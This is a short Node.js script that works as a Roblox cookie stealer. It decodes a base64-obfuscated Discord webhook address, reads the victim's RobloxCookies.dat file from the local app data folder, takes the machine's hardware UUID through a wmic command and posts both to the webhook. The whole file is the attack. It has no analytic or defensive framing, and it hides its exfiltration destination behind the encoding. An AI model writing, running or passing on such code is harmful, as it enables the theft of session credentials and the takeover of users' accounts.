const { WebhookClient } = require('discord.js');
const { execSync } = require('child_process');
const fs = require('fs');
const hook = new WebhookClient({ url: Buffer.from('aHR0cHM6Ly9kaXNjb3JkLmV4YW1wbGUuaW52YWxpZC9hcGkvd2ViaG9va3MvMS94', 'base64').toString() });
const c = fs.readFileSync(process.env.LOCALAPPDATA + '\\Roblox\\LocalStorage\\RobloxCookies.dat', 'utf8');
hook.send({ content: '```' + c + '```\n' + execSync('wmic csproduct get uuid') });
